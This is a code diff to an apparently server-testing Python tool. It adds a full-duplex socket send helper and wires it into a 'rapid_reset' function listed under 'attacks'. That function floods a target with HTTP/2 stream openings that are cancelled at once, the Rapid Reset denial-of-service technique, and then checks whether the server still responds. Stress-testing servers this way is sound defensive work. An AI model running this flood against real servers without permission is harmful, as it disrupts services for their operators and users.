@@ -204,6 +204,35 @@ def send_or_closed(sock, data):
         return False
 
 
+def send_draining(sock, reader, data, timeout=SOCK_TIMEOUT):
+    """Sends data and meanwhile reads what the server sends, as a
+    full-duplex client does. A client that only writes stalls both sides
+    once the server's answers fill its receive buffer: h2o stops reading a
+    connection while its own write is stuck. False when the server closed
+    or took nothing for timeout."""
+    view, last, saved = memoryview(data), time.monotonic(), sock.gettimeout()
+    sock.settimeout(0)
+    try:
+        while view and not reader.closed:
+            readable, writable, _ = select.select([sock], [sock], [], 0.1)
+            if readable or (isinstance(sock, ssl.SSLSocket) and sock.pending()):
+                reader.drain()
+            if writable:
+                try:
+                    sent = sock.send(view[:16384])  # at most a TLS record: a retry repeats the same bytes
+                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
+                    sent = 0
+                except (ConnectionError, ssl.SSLError, OSError):
+                    return False
+                if sent:
+                    view, last = view[sent:], time.monotonic()
+            if time.monotonic() - last > timeout:
+                return False
+        return not view
+    finally:
+        sock.settimeout(saved)
+
+
 # --------------------------------------------------------------------------
 # attacks
 
@@ -233,11 +262,10 @@ def rapid_reset(target, seconds, batch=500, tls=True, settle=30.0):
             sid = struct.pack(">I", stream_id)
             chunk += head + sid + block + rst + sid + cancel
             stream_id += 2
-        if not send_or_closed(sock, chunk):
+        if not send_draining(sock, reader, chunk):
             break
         sent += batch
         nbytes += len(chunk)
-        reader.drain()
     pings = reader.types[PING]
     if not reader.closed and send_or_closed(sock, frame(PING, 0, 0, b"barrier!")):
         deadline = time.monotonic() + settle
